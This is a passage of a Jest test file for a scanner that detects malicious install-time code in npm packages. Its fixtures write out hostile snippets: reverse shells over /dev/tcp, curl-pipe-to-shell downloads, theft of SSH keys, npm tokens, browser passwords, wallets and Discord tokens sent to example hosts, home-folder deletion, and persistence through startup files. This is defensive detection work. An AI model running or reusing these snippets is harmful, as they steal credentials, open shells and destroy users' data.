    ['a path written under import.meta.dirname, required under __dirname', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(path.join(import.meta.dirname, 'x.js'), loaded);\n{{PAD}}\nrequire(`${__dirname}/x.js`);"],
  ])('%s', (_name, code) => {
    expect(flags(code.replaceAll('{{PAD}}', ''))).toEqual(['remote-eval']);
    expect(flags(code.replaceAll('{{PAD}}', UNRELATED))).toEqual(['remote-eval']);
  });

  test.each([
    ["a handler set through a computed member for another event ('end'), its argument evaluated", "const https = require('https');\nconst on = 'on';\nlet body = '';\nfunction handle(res) { res[on]('end', (n) => { body += n; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
    ['a file stream piped to concat-stream, evaluated, the network elsewhere', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nfs.createReadStream(p).pipe(concat((src) => eval(src.toString())));"],
    ['the response piped to a file stream, its path read and evaluated as text of its own', "const https = require('https');\nfunction handle(res) { res.pipe(fs.createWriteStream(target)).on('finish', () => {\n{{PAD}}\nconst label = target;\nnew Function('return ' + JSON.stringify(label))(); }); }\n{{PAD}}\nhttps.get(u, handle);"],
    ['a file stream iterated by for await, evaluated, the network elsewhere', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nlet src = '';\nfor await (const line of fs.createReadStream(p)) src += line;\n{{PAD}}\neval(src);"],
    ['vm by a member named by a constant that runs nothing (isContext)', "const vm = require('vm');\nconst k = 'isContext';\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nvm[k](loaded);"],
    ['an object of plain functions called by a computed member with the download', "const handlers = { log: console.log, save: store };\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nhandlers[k](loaded);"],
    ['an object whose member was given eval, called by a member named by a constant for another member', "const loader = { run: eval, show: print };\nconst k = 'show';\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nloader[k](loaded);"],
    ["an event emitted by a name spelled out as another event's, the handler evaluating 'code'", "const https = require('https');\n{{PAD}}\nbus.on('code', (s) => eval(s));\n{{PAD}}\nconst E = 'chunk';\nhttps.get(u, (r) => { r.on('data', (c) => bus.emit(E, c)); });"],
    ['an array indexed and called with the download', "const steps = [parse, check];\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nsteps[i](loaded);"],
    ['a download written under the temporary folder, a file of the package imported by new URL', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(path.resolve(os.tmpdir(), 'cache.txt'), loaded);\n{{PAD}}\nawait import(new URL('./lib/x.js', import.meta.url));"],
  ])('%s', (_name, code) => {
    expect(flags(code.replaceAll('{{PAD}}', UNRELATED))).toEqual([]);
  });
});

describe('each rule at its edge (edits of real shapes)', () => {
  const recon = [
    "const os = require('os'); const https = require('https');",
    'const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname });',
    "https.request({ hostname: 'collector.example', method: 'POST' }).end(data);",
  ].join('\n');

  test.each([
    ['dependency-confusion recon: host data posted', recon, ['exfiltration']],
    ['the same to a request catcher', recon.replace('collector.example', 'abc.oastify.com'), ['beacon', 'exfiltration']],
    ['host data by bracket access, sent over DNS', "const os = require('os'); require('dns').lookup(Buffer.from(os['hostname']()).toString('hex') + '.x.example', () => {})", ['exfiltration']],
    ['curl through child_process with the shell asking who and where', "require('child_process').exec('curl -s https://x.example/p?d=$(whoami)@$(hostname)')", ['download-exec', 'exfiltration']],
    ['host data without a network call', "const os = require('os'); console.log(os.hostname())", []],
    ['a network call without host data (a binary download)', "require('https').get('https://github.com/o/r/releases/download/v1/x.tgz', save)", []],
    ['the user named in a log file in the temporary folder, the platform sent (install analytics)', "const os = require('os'); const https = require('https');\nconst user = os.userInfo().username;\nconst log = path.join(os.tmpdir(), `history-${user}.log`);\nhttps.request({ host: 'stats.example' }).end(JSON.stringify({ platform: os.platform() }));", []],
    ['the same read inside the path call', "const os = require('os'); fetch('https://stats.example/', { body: os.platform() }); fs.appendFileSync(path.join(os.homedir(), os.hostname() + '.log'), 'x');", []],
    ['the user named in a log file and sent too', "const os = require('os'); const https = require('https');\nconst user = os.userInfo().username;\nconst log = path.join(os.tmpdir(), `history-${user}.log`);\nhttps.request({ host: 'stats.example' }).end(user);", ['exfiltration']],
    ['minified: host data beside a temporary path in one statement, then sent', "var o=require('os'),h=o.hostname(),f=require('path').join(o.tmpdir(),'x');require('https').request({host:'a.example'}).end(h)", ['exfiltration']],
    ['a path call that names no temporary or home folder', "const os = require('os'); fetch('https://x.example/' + path.join('a', os.hostname()))", ['exfiltration']],
    ['a name used only in paths, but read more than once unassigned', "const os = require('os'); const u = os.userInfo().username; fs.writeFileSync(path.join(os.tmpdir(), u), ''); fetch('https://x.example/', { body: os.hostname() })", ['exfiltration']],
    ['the whole environment sent', "fetch('https://x.example/', { method: 'POST', body: JSON.stringify(process.env) })", ['exfiltration']],
    ['one variable read for a proxy', "const p = process.env.HTTPS_PROXY; require('https').get(url, { agent: p })", []],
    ['the npm token file read and sent', "const t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); fetch(u, { method: 'POST', body: t })", ['exfiltration']],
    ['SSH keys read', "fs.readFileSync(path.join(home, '.ssh', 'id_rsa'))", ['credential-read']],
    ['a Discord webhook', "fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST', body: 'x' })", ['beacon']],
    ["a Discord webhook client made with the webhook's id and token written in the code (an0n-chat-lib)", "const client = new discord_js_1.WebhookClient('766342517549301771', 'r5lqtrhieTfiwqhneOrtWQsK0WtT'); await client.send(undefined, { embeds })", ['beacon']],
    ['the same with an options object', "new WebhookClient({ id: '766342517549301771', token: t }).send(tokens.join())", ['beacon']],
    ["a Telegram bot made with its token written in the code", "const bot = new TelegramBot('1234567890:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw0', { polling: false }); bot.sendMessage(chat, data)", ['beacon']],
    ["a Discord webhook client made from the user's configuration (discord.js's documented use)", "const hook = new WebhookClient({ url: process.env.WEBHOOK_URL }); hook.send('deployed')", []],
    ["a Telegram bot made from the user's token (telegraf's documented use)", "const bot = new Telegraf(process.env.BOT_TOKEN); bot.launch()", []],
    ['bash /dev/tcp', "require('child_process').exec('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')", ['reverse-shell']],
    [
      'a socket piped to a shell',
      "const net = require('net'), cp = require('child_process'); const c = new net.Socket(); c.connect(4444, h, () => { const sh = cp.spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });",
      ['reverse-shell'],
    ],
    ['npm publish from an install script', "require('child_process').execSync('npm publish --access public')", ['publishes']],
    ['eval of base64', "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())", ['decoded-eval']],
    ['eval of a name assigned from atob', "const code = atob(s);\nnew Function(code)()", ['decoded-eval']],
    // GlassWorm's decoding (2025): the code points of invisible characters, made bytes.
    ['eval of code points made bytes', "eval(Buffer.from([...hidden].map((c) => c.codePointAt(0) - 0xe0100)).toString())", ['decoded-eval']],
    ['eval of a plain expression, decoding elsewhere', "const v = eval(expr);\nconst label = String.fromCharCode(65);", []],
    ['eval of what it downloads', "require('https').get(u, (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => eval(b)); })", ['remote-eval']],
    ['a download from a bare public IP address', "require('http').get('http://203.0.113.7/payload.exe', save)", ['download-exec']],
    ['a private address is not that', "require('http').get('http://192.168.1.10:8080/x', save)", []],
    ['curl run through child_process loaded by a name bound to require', "const r = require;\nr('child_process').exec('curl -s https://get.example/x.sh | sh')", ['download-exec']],
    ['the same through global[\'req\' + \'uire\']', "const r = global['req' + 'uire'];\nr('child_process').exec('curl -s https://get.example/x.sh | sh')", ['download-exec']],
    ['a require bound to a name to load optional modules, with a download URL held as text', "const load = module.require;\nconst fs = load('fs');\nconst hint = 'curl -fsSL https://get.example/install.sh';", []],
    ['curl run through child_process', "require('child_process').execSync('curl -fsSL https://x.example/i.sh | sh')", ['download-exec']],
    ['a detached process that outlives the install', "require('child_process').spawn(process.execPath, ['svc.js'], { detached: true, stdio: 'ignore' }).unref()", ['detached-process']],
    ['a long base64 blob', `const blob = '${'QUJD'.repeat(600)}';`, ['obfuscated']],
    ['the home folder removed', "const fs = require('fs'), os = require('os'); fs.rmSync(os.homedir(), { recursive: true, force: true })", ['destructive']],
    ['rm -rf ~ through a shell', "require('child_process').execSync('rm -rf ~/ 2>/dev/null')", ['destructive']],
    ['a build folder removed is housekeeping', "fs.rmSync(path.join(__dirname, 'build'), { recursive: true }); execSync('rm -rf ./tmp')", []],
    ['a line appended to the shell startup file', "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nnode ~/.cache/x.js &\\n')", ['persistence']],
    // nx-mcp 0.25.0 bundles mime-db and options objects: a name with a dot inside is no startup file.
    ['a media type ending in .profile beside a write', "const db = {\"application/vnd.evolv.ecig.profile\":{source:\"iana\"}};\nfs.writeFileSync(out, JSON.stringify(db))", []],
    ['an options object read at .profile beside a write', "const name = options.profile || 'default';\nfs.writeFileSync(path.join(dir, name + '.json'), data)", []],
    ['a shell script held as text: a comment line, then a line that appends to the startup file', "const s = `# set up\necho 'node ~/.x.js &' >> ~/.bashrc\n`;\nrequire('child_process').execSync(s)", ['persistence']],
    ['a comment line of a shell script broken by an interpolated line end', "const nl = '\\n';\nrequire('child_process').execSync(`# note ${nl} echo x >> ~/.bashrc`)", ['persistence']],
    ['a comment line whose text ends on it and a write follows', "const t = `\n# ` + fs.appendFileSync(os.homedir() + '/.bashrc', p)", ['persistence']],
    ['a LaunchAgent written', "fs.writeFileSync(`${os.homedir()}/Library/LaunchAgents/com.x.plist`, plist)", ['persistence']],
    ['a Run key added', "require('child_process').exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x /d evil.exe')", ['persistence']],
    // Persistence is a write INTO the place: the path written is spelled beside the write, or held by a name (or one built from it) handed to the write.
    ['the startup file\'s path held by a name, appended to far below', `const rc = path.join(os.homedir(), '.bashrc');\n${FILLER(3000)}\nfs.appendFileSync(rc, '\\nnode ~/.cache/x.js &\\n');`, ['persistence']],
    ['the write above the name it is handed (a function declared before the constant)', `function install() { fs.appendFileSync(RC, line); }\n${FILLER(3000)}\nconst RC = path.join(os.homedir(), '.zshrc');\ninstall();`, ['persistence']],
    ['a LaunchAgents folder, a plist path built from it, the plist written', `const dir = path.join(os.homedir(), 'Library', 'LaunchAgents');\n${FILLER(2000)}\nconst plist = path.join(dir, 'com.x.agent.plist');\n${FILLER(2000)}\nfs.writeFileSync(plist, xml);`, ['persistence']],
    ['a LaunchAgents path in a template, written through its name', `const p = \`\${os.homedir()}/Library/LaunchAgents/com.x.plist\`;\n${FILLER(3000)}\nfs.writeFileSync(p, xml);`, ['persistence']],
    ['minified: a one-letter name holding the startup file, appended to', `var a=e.join(t.homedir(),".zshrc");${FILLER(3000)}n.appendFileSync(a,"node x &");`, ['persistence']],
    ['a systemd user unit written', "fs.writeFileSync(path.join(os.homedir(), '.config/systemd/user/x.service'), unit)", ['persistence']],
    ['a copy into the Windows Startup folder', "fs.copyFileSync(process.execPath, path.join(process.env.APPDATA, 'Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\u.exe'))", ['persistence']],
    ['a crontab line piped to crontab -', "require('child_process').execSync('(crontab -l; echo \"@reboot node ~/.x.js\") | crontab -')", ['persistence']],
    ['more startup-file names than are followed, a write in the file', `${"const h = 'see ~/.bashrc';\n".repeat(70)}${FILLER(2000)}\nfs.writeFileSync(out, data);`, ['persistence']],
    // @anthropic-ai/claude-agent-sdk 0.3.337's sdk.mjs: a settings tip that names ~/.zshrc as an example, its file writes 115 KB away in other functions.
    ['a bundle: a help text naming ~/.zshrc in one function, unrelated file writes far away in another', `function tip(){return {hint:'For example: ["Run(make)", "Open(~/.zshrc)"]'};}\n${FILLER(100_000)}\nasync function save(e,t){await fs.promises.appendFile(e,t);fs.writeFileSync(e+'.bak',t);}`, []],
    ['a hint naming the startup file held by a name, an unrelated write far away', `const hint = 'add the line to ~/.bashrc';\n${FILLER(3000)}\nfs.writeFileSync(out, data);\nconsole.log(hint);`, []],
    ['the startup file read through a name, another file written', `const rc = path.join(os.homedir(), '.bashrc');\nconst text = fs.readFileSync(rc, 'utf8');\n${FILLER(3000)}\nfs.writeFileSync(out, text);`, []],
    // peacenotwar 9.1.7's shape: a file dropped on the user's Desktop and OneDrive.
    ['a file written to the Desktop built from the home folder', "import { homedir } from 'os';\nvar Desktops = `${homedir}/Desktop/`;\nfs.writeFile(`${Desktops}WITH-LOVE.txt`, msg, () => {})", ['user-files']],
    ['a file written into Documents by path.join', "fs.writeFileSync(path.join(os.homedir(), 'Documents', 'note.txt'), text)", ['user-files']],
    ['a Windows OneDrive folder through USERPROFILE', "fs.writeFileSync(process.env.USERPROFILE + '\\\\OneDrive\\\\x.txt', t)", ['user-files']],
    ['the Downloads folder named for a message, nothing written', "console.log('saved to ' + path.join(os.homedir(), 'Downloads'))", []],
    ['a cache written under the home folder is not a user folder', "fs.writeFileSync(path.join(os.homedir(), '.cache', 'tool', 'state.json'), s)", []],
    ['reading the shell startup file is not writing it', "const rc = fs.readFileSync(path.join(os.homedir(), '.zshrc'), 'utf8')", []],
    // meow 14.1.0's bundle: the SPDX licence ids ("curl" among them) beside its child_process import.
    ['a list of licence ids that holds "curl", beside child_process', "import { execFile } from 'node:child_process';\nconst ids = [\n\t\"bzip2-1.0.6\",\n\t\"curl\",\n\t\"dtoa\",\n];\nexport const run = (f) => execFile(f);", []],
    ['curl started as the program of a call', "const { spawn } = require('child_process');\nspawn('curl', ['-o', 'x.sh', url]);", ['download-exec']],
    ['wget.exe started through execFile', "require('child_process').execFile(\"wget.exe\", [url])", ['download-exec']],
    ['a command line joined on after curl', "require('child_process').execSync('curl ' + url + ' | sh')", ['download-exec']],
    ['curl named alone, then joined to its arguments', "const cp = require('child_process');\ncp.exec('curl' + ' -s ' + u)", ['download-exec']],
    ['curl given a name, the name started', "const { spawn } = require('child_process');\nconst bin = 'curl';\nspawn(bin, ['-o', 'x.sh', url]);", ['download-exec']],
    // bun 1.4.5's install.js (fixtures/install-code/benign): the way to install it by hand, only shown.
    ['a curl command line held by a name used only in an Error', "const cp = require('child_process');\nlet hint = win ? 'powershell -c \"irm x.example/i.ps1 | iex\"' : \"curl -fsSL https://x.example/install | bash\";\ncp.spawnSync(exe, ['--version']);\nthrow new Error(`install it with: ${hint}`);", []],
    ['a curl command line written in a console line', "const cp = require('child_process');\ncp.spawnSync(exe, ['--version']);\nconsole.error('or run: curl -fsSL https://x.example/install | bash');", []],
    ['the same name shown and run', "const cp = require('child_process');\nlet hint = \"curl -fsSL https://x.example/install | bash\";\nconsole.log(hint);\ncp.execSync(hint);", ['download-exec']],
    ['the same name declared, never used', "const cp = require('child_process');\nconst cmd = 'curl -fsSL https://x.example/install | bash';\ncp.execSync(other);", ['download-exec']],
    ['an Error made of the command line, its message run', "require('child_process').execSync(new Error('curl -fsSL https://x.example/i.sh | sh').message)", ['download-exec']],
    ['an Error kept in a name, its message run', "const cp = require('child_process');\nconst e = new Error('curl -fsSL https://x.example/i.sh | sh');\ncp.execSync(e.message);", ['download-exec']],
    ['a command line assigned by a statement of its own, then run', "const cp = require('child_process');\nlet cmd;\ncmd = 'curl -fsSL https://x.example/i.sh | sh';\nconsole.log(cmd);\ncp.execSync(cmd);", ['download-exec']],
    ['a RegExp exec and a message that names curl start no process', "const m = /v(\\d+)/.exec(s); if (!m) throw new Error('install curl or wget first'); console.log(os.hostname())", []],
    // A command line decoded and run as a process: GuardDog's npm-exec-base64 shape, as eval of decoded text.
    ['a decoded command line run', "require('child_process').exec(Buffer.from('ZWNobyBoaQ==', 'base64').toString())", ['decoded-eval']],
    ['a name assigned from atob, then spawned', "const cp = require('child_process');\nconst cmd = atob(enc);\ncp.execSync(cmd)", ['decoded-eval']],
    ['a process started with an encoded argument it passes on, not a decoded one', "const cp = require('child_process'); cp.spawnSync(process.execPath, ['worker.js', Buffer.from(JSON.stringify(opts)).toString('base64')])", []],
    ['minified: a RegExp exec on a one-letter name another statement decodes into, child_process loaded', "let n=require('child_process');var e=String.fromCharCode(65);function p(e){let t=s.exec(e);return t}", []],
    ['a RegExp exec on decoded text, without child_process', "const m = /x/.exec(atob(s))", []],
    // The npm token printed by npm itself, and sent.
    ['the npm token read through npm config and sent', "const t = require('child_process').execSync('npm config get //registry.example/:_authToken').toString(); fetch('https://x.example/?t=' + t)", ['exfiltration']],
    ['npm config read for the prefix, then a download', "const p = require('child_process').execSync('npm config get prefix').toString(); require('https').get('https://x.example/bin.tgz', save)", []],
    // Browser, Discord and wallet stores read and sent (stealers run from postinstall).
    ['a browser password store read and posted', "const db = fs.readFileSync(os.homedir() + '/AppData/Local/Google/Chrome/User Data/Default/Login Data'); require('axios').post(u, db)", ['credential-read', 'exfiltration']],
    ['a wallet folder walked and posted', "for (const f of fs.readdirSync(path.join(os.homedir(), 'AppData', 'Roaming', 'Exodus', 'exodus.wallet'))) fetch(u, { method: 'POST', body: f })", ['credential-read', 'exfiltration']],
    ["Discord's token store walked and posted", "const dir = path.join(process.env.APPDATA, 'discord', 'Local Storage', 'leveldb'); for (const f of fs.readdirSync(dir)) fetch(u, { method: 'POST', body: fs.readFileSync(path.join(dir, f)) })", ['credential-read', 'exfiltration']],
    ['a Firefox profile named without reading it', "const name = 'logins.json'; console.log(name)", []],
    // A host named after the package itself: the call home of a dependency-confusion probe.
    ['a GET to a host that begins with the package name', "const package_name = 'internal-lib'; require('http').get(`http://${package_name}.cb.example.net/`)", ['beacon']],
    ["the package.json's name concatenated into the host", "require('https').get('https://' + require('./package.json').name + '.t.example.org/ping')", ['beacon']],
    ['the package name in the path of a registry URL', "require('https').get(`https://registry.example.org/${pkg.name}/-/x.tgz`, save)", []],
    ['a bucket or host variable in the host', "require('https').get(`https://${bucketName}.s3.amazonaws.com/${version}/bin.tgz`, save); fetch(`https://${hostname}.mirror.example.org/x`)", []],
    ['the same words in comments only', "// sends os.hostname() to https://x.oastify.com\n/* eval(atob(x)) ~/.ssh/id_rsa readFileSync */\nconsole.log('ok')", []],
  ])('%s', (_name, code, expected) => {
    expect(flags(code)).toEqual([...expected].sort());
  });
});

describe('stripComments', () => {
  test('strings keep what looks like a comment; comments go', () => {
    expect(stripComments("const u = 'https://x/y'; // note\nconst v = \"/* not */\"; /* gone */ end")).toBe("const u = 'https://x/y'; \nconst v = \"/* not */\";   end");
  });

  test('an unterminated string or comment ends the text without a throw', () => {
    expect(stripComments("const a = 'open")).toBe("const a = 'open");
    expect(stripComments('a /* open')).toBe('a  ');
  });
});

describe('a file longer than a window (a bundle) is read to its end, window by window', () => {
  const MiB = 1024 * 1024;
  /** Benign minified-looking code of about `chars` characters. */
  const UNIT = 'var a=function(b,c){return b*3+c.length},k={id:1,f:a};a(1,k);';
  const filler = (chars: number) => UNIT.repeat(Math.ceil(chars / UNIT.length)).slice(0, chars);
  const RECON_PAYLOAD = "const os = require('os');\nrequire('https').request({ hostname: 'c.example', method: 'POST' }).end(JSON.stringify([os.hostname(), os.userInfo()]));";

  test('the windows cover the text, each overlapping the one before', () => {
    expect(readingWindows('abc')).toEqual(['abc']);
    const text = filler(3 * MiB);
    const windows = readingWindows(text);
    // Windows start every 896 KiB: at 0, 0.875, 1.75 and 2.625 MiB.
    expect(windows.length).toBe(4);
    expect(windows.every((w) => w.length <= MiB)).toBe(true);
    expect(windows.at(-1)?.endsWith(text.slice(-100))).toBe(true);
    expect(windows[1]?.startsWith(windows[0]!.slice(-128 * 1024))).toBe(true);
  });

  test('a payload past the first MiB, at the end of a 3.5 MiB bundle, is found', () => {
    expect(flags(`${filler(3.5 * MiB)}\n${RECON_PAYLOAD}`)).toEqual(['exfiltration']);
    expect(flags(filler(3.5 * MiB))).toEqual([]);
  });

  test('a payload across a window border is whole in the next window', () => {
    const border = MiB - 1000;
    expect(flags(`${filler(border)}\n${RECON_PAYLOAD}\n${filler(MiB)}`)).toEqual(['exfiltration']);
  });

  test('a network call and host data in modules megabytes apart are not combined', () => {
    const network = "require('https').get(url, save);";
    const hostData = "const who = require('os').hostname();";
    expect(flags(`${network}\n${filler(3 * MiB)}\n${hostData}`)).toEqual([]);
    // Within a window they combine, as they do in a file of that size.
    expect(flags(`${network}\n${filler(100_000)}\n${hostData}`)).toEqual(['exfiltration']);
  });

  test('past MAX_SCANNED_CHARS nothing is read (the facts say truncated, which install-scripts does not read as clean)', () => {
    expect(flags(`${filler(MAX_SCANNED_CHARS)}\n${RECON_PAYLOAD}`)).toEqual([]);
  });
});
